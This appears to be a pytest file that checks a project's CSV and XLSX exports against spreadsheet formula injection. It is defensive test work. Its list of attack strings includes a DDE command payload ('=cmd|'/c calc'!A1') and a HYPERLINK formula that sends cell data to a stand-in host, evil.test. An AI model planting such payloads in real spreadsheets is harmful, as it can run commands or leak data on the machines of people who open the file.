"""Cells that a spreadsheet program would run."""

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from assistant.said.export import rendered
from index.similar import SimilarQuestion, read, write

ATTACKS = [
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.test?"&A1,"看")',
]


def starts_harmlessly(text: str) -> bool:
    return not text.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_export_starts_a_formula(attack: str) -> None:
    content = rendered([["标题", "单位"], [attack, f"{attack}、{attack}"]], "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert len(cells) == 4 and all(starts_harmlessly(cell) for cell in cells)


def formulas(book: Any) -> list[str]:
    return [cell.value for sheet in book for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_an_xlsx_export_is_a_formula(attack: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(rendered([["标题", "单位"], [attack, attack]], "xlsx")))
    assert formulas(book) == []
    assert starts_harmlessly(str(book.active["A2"].value))


@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_similar_questions_leave_and_come_back_as_text(attack: str, tmp_path: Path) -> None:
    question = SimilarQuestion("d", ("1",), attack, "企业", "")
    write(tmp_path / "q.xlsx", [question])
    assert formulas(openpyxl.load_workbook(tmp_path / "q.xlsx")) == []
    assert [each.question for each in read(tmp_path / "q.xlsx")] == [attack]
